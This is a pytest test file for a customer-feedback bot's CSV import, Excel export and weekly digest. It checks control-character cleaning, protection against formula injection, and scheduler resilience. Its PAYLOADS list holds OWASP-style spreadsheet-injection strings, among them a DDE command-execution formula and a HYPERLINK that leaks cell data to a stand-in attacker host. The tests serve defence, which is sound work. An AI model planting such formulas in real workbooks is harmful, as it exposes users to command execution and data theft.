"""User text in workbooks stays text, control characters never break
an import, an export or the digest, and one failing job does not stop the start-up catch-up."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import logging
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text, update
from sqlmodel import col, select

from bot.core.presentation.messages import OutboundFile
from bot.core.reporting.periods import Week
from bot.core.service import Draft, VocService
from jobs.digest import post_digest
from jobs.dispatcher import Dispatcher
from jobs.excel import export_workbook
from jobs.imports import import_scores
from jobs.scheduler import Scheduler
from storage.db import Database
from storage.models import Event, Outbox, Score, Signal
from tests.conftest import FakeClock
from tests.support.workbook import SHEETS
from tests.unit.test_cli import invoke
from tests.unit.test_digest import RecordingPort
from tests.unit.test_first_start import bot_ran_since

KATE, IVAN, OLGA = "slack:U0SALES1", "slack:U0LOG1", "slack:U0LOGHEAD"
WEEK = Week(2026, 48)  # Mon 23 Nov - Sun 29 Nov 2026; the fixture clock is Tue 24 Nov
# What an attacker (or an unlucky colleague) types, as OWASP's CSV-injection page lists it.
PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1)',
            "=== urgent ===", "+1 555", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "#N/A"]
REPORTERS = [KATE, IVAN, "slack:U0SUP1", "slack:U0SALESHEAD", "slack:U0ITHEAD",
             "slack:U0FINHEAD", "slack:U0PRODHEAD"]


def formulas_in(content: bytes) -> list[str]:
    """The sheets of a .xlsx whose XML holds a formula (<f> element)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and re.search(rb"<f[\s>/]", archive.read(name))]


def column(content: bytes, sheet: str, letter: str) -> list[Any]:
    """The data cells (below the header) of one column, as openpyxl reads them back."""
    ws = load_workbook(io.BytesIO(content)).worksheets[SHEETS.index(sheet)]
    return [row[0] for row in ws[f"{letter}2:{letter}{ws.max_row}"]]


def digest_workbook(service: VocService, db: Database, clock: FakeClock) -> bytes:
    """Post the digest of WEEK the following Tuesday, deliver it, return the attached .xlsx."""
    clock.advance(days=7)
    assert "leadership" in post_digest(service, WEEK).posted
    port = RecordingPort()
    dispatcher = Dispatcher(db, [port], clock=service.clock)  # type: ignore[list-item]
    while asyncio.run(dispatcher.run_once()):
        pass
    files = [item for destination, _, item in port.sent if destination == "slack:C0LEADERS"
             and isinstance(item, OutboundFile) and item.filename == f"voc-{WEEK}.xlsx"]
    assert len(files) == 1
    return files[0].content


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["date", "score", "customer", "segment", "comment"],
                                      *rows])
    return path


def set_display_name(db: Database, person_id: int, name: str) -> None:
    """What a Slack profile lookup stores, written straight into the database."""
    with db.engine.begin() as connection:
        connection.execute(text("UPDATE person SET display_name = :name WHERE id = :id"),
                           {"name": name, "id": person_id})


# -- item 3: control characters ----------------------------------------------------------------
def test_a_csv_with_control_characters_imports_every_good_row_then_export_and_digest_work(
        db_url: str, tmp_path: Path) -> None:
    source = tmp_path / "scores.csv"
    source.write_bytes(
        b"date,score,customer,segment,comment\n"
        b"2026-11-02,9,Acme,b2b,fast\x01 delivery\n"
        b"2026-11-03,3,Bolt\x00 Ltd,retail,late\x00 again\n"  # NUL in row 3 (2nd of 4 rows)
        b"2026-11-04,12,Cargo,,\x01\n"  # still bad once cleaned: reported, the others import
        b"2026-11-05,8,Dune\tInc,,\"two\r\nlines\x0b\"\n")
    result = invoke("import-scores", str(source), db_url=db_url)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "row 4: score '12' is not a whole number from 0 to 10" in result.output
    assert "imported 3 customer score(s); 0 already imported; 1 bad row(s)" in result.output
    db = Database.connect(db_url)
    try:
        with db.read() as session:
            stored = [(s.customer, s.comment) for s in
                      session.exec(select(Score).order_by(col(Score.at))).all()]
    finally:
        db.dispose()
    assert stored == [("Acme", "fast delivery"), ("Bolt Ltd", "late again"),
                      ("Dune Inc", "two\nlines")]  # a comment keeps its line break

    out = tmp_path / "out.xlsx"
    result = invoke("export", "--from", "2026-11-01", "--to", "2026-11-30", "-o", str(out),
                    db_url=db_url)
    assert result.exit_code == 0, result.output
    assert [c.value for c in column(out.read_bytes(), "Scores", "G")] == [
        "fast delivery", "late again", "two\nlines"]

    result = invoke("digest", "--week", "2026-W45", "--post", db_url=db_url, VOC_LOCALE="en")
    assert result.exit_code == 0, result.output
    db = Database.connect(db_url)
    try:
        with db.read() as session:
            workbook = session.exec(select(Outbox).where(col(Outbox.dedupe_key).startswith(
                "digest:2026-W45:leadership:voc-2026-W45.xlsx@slack:"))).one()
    finally:
        db.dispose()
    content = base64.b64decode(workbook.payload["file"]["content"])
    assert [c.value for c in column(content, "Scores", "G")] == [
        "fast delivery", "late again", "two\nlines"]


def test_control_characters_already_stored_do_not_break_export_or_digest(
        service: VocService, db: Database, clock: FakeClock) -> None:
    result = service.capture(KATE, Draft("complaint", "The courier was late", customer="Acme"))
    service.resolve(OLGA, result.signal.ref, "Refunded the delivery")
    signal_id = int(result.signal.ref.split("-")[1])
    bad = "\x00" if db.dialect == "sqlite" else ""  # PostgreSQL cannot even store a NUL
    with db.engine.begin() as connection:  # as rows imported before the fix, or by hand
        connection.execute(update(Signal.__table__).where(  # type: ignore[attr-defined]
            Signal.__table__.c.id == signal_id).values(  # type: ignore[attr-defined]
            text=f"The courier\x01 was late{bad}\x0b", customer="Ac\x1fme\ufffe"))
        connection.execute(update(Event.__table__).where(  # type: ignore[attr-defined]
            Event.__table__.c.action == "resolved").values(  # type: ignore[attr-defined]
            details={"note": "Refunded\x02 the delivery"}))
        connection.execute(Score.__table__.insert(), {  # type: ignore[attr-defined]
            "kind": "customer", "source": "import", "value": 4, "at": clock(),
            "customer": "Old\x1b import", "comment": f"broken\x01{bad} row\uffff"})
    set_display_name(db, service.person(KATE).id, "Kate\x08 Brown")  # type: ignore[union-attr]

    english, leadership = service.translator("en"), service.translator()
    for content, t in ((export_workbook(service, t=english), english),
                       (digest_workbook(service, db, clock), leadership)):
        assert [c.value for c in column(content, "Signals", "F")] == ["The courier was late"]
        assert [c.value for c in column(content, "Signals", "G")] == ["Acme"]
        assert [c.value for c in column(content, "Signals", "I")] == ["Kate Brown"]
        note = t.gettext("note: %(text)s") % {"text": "Refunded the delivery"}
        assert note in [c.value for c in column(content, "Events", "E")]
        scores = {c.value for c in column(content, "Scores", "G")}
        assert "broken row" in scores


# -- item 4: formulas ----------------------------------------------------------------------------
def test_formula_looking_text_comes_back_as_the_same_text_never_a_formula(
        service: VocService, db: Database, clock: FakeClock, tmp_path: Path) -> None:
    for reporter, payload in zip(REPORTERS, PAYLOADS, strict=True):
        service.capture(reporter, Draft("complaint", payload, customer=payload))
        set_display_name(db, service.person(reporter).id, payload)  # type: ignore[union-attr]
    report = import_scores(service, write_csv(tmp_path / "scores.csv", [
        ["2026-11-23", "5", payload, payload, payload] for payload in PAYLOADS]))
    assert report.imported == len(PAYLOADS) and report.errors == []

    for content in (export_workbook(service, t=service.translator("en")),
                    digest_workbook(service, db, clock)):
        assert formulas_in(content) == []
        cells = {"Signals": ("F", "G", "I"), "Events": ("D",),  # the bot's own events: no name
                 "Scores": ("E", "F", "G")}
        for sheet, letters in cells.items():
            for letter in letters:
                read = [c for c in column(content, sheet, letter) if c.value is not None]
                assert sorted(c.value for c in read) == sorted(PAYLOADS), (sheet, letter)
                assert {c.data_type for c in read} == {"s"}, (sheet, letter)
                assert all(c.quotePrefix for c in read), (sheet, letter)  # stays text if edited


def test_ordinary_text_is_written_as_plain_strings(service: VocService) -> None:
    service.capture(KATE, Draft("praise", "Lovely sofa # 2, says the customer",
                                customer="Acme - Moscow"))
    content = export_workbook(service, t=service.translator("en"))
    text_cell, customer = column(content, "Signals", "F")[0], column(content, "Signals", "G")[0]
    assert (text_cell.value, customer.value) == ("Lovely sofa # 2, says the customer",
                                                 "Acme - Moscow")
    assert text_cell.data_type == customer.data_type == "s"
    assert not text_cell.quotePrefix and not customer.quotePrefix


# -- the start-up catch-up ---------------------------------------------------------------------
def test_catch_up_runs_the_sweep_and_the_pulse_when_the_digest_fails(
        service: VocService, db: Database, clock: FakeClock, monkeypatch: pytest.MonkeyPatch,
        caplog: pytest.LogCaptureFixture) -> None:
    ref = service.capture(IVAN, Draft("complaint", "The courier was late again")).signal.ref
    with db.read() as session:
        signal = session.get(Signal, int(ref.split("-")[1]))
        assert signal is not None
    bot_ran_since(service.db, clock.now - timedelta(days=30))  # a bot that ran all month
    clock.now = signal.ack_due_at + timedelta(minutes=1)  # overdue, and past the pulse time

    def broken_digest(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("the digest could not be built")

    monkeypatch.setattr("jobs.scheduler.post_digest", broken_digest)

    async def start_and_stop() -> None:
        scheduler = Scheduler(service, owner="replica")
        await scheduler.start()
        await scheduler.stop()

    with caplog.at_level(logging.ERROR, logger="jobs.scheduler"):
        asyncio.run(start_and_stop())
    with db.read() as session:
        keys = [row.dedupe_key for row in session.exec(select(Outbox)).all()]
    assert any(key.startswith("remind:") for key in keys)  # the SLA sweep ran
    assert any(key.startswith("pulse:") for key in keys)  # so did the pulse round
    failures = [r for r in caplog.records if r.exc_info]
    assert [r.getMessage() for r in failures] == [
        "catching up the weekly digest failed; it runs again on schedule"]
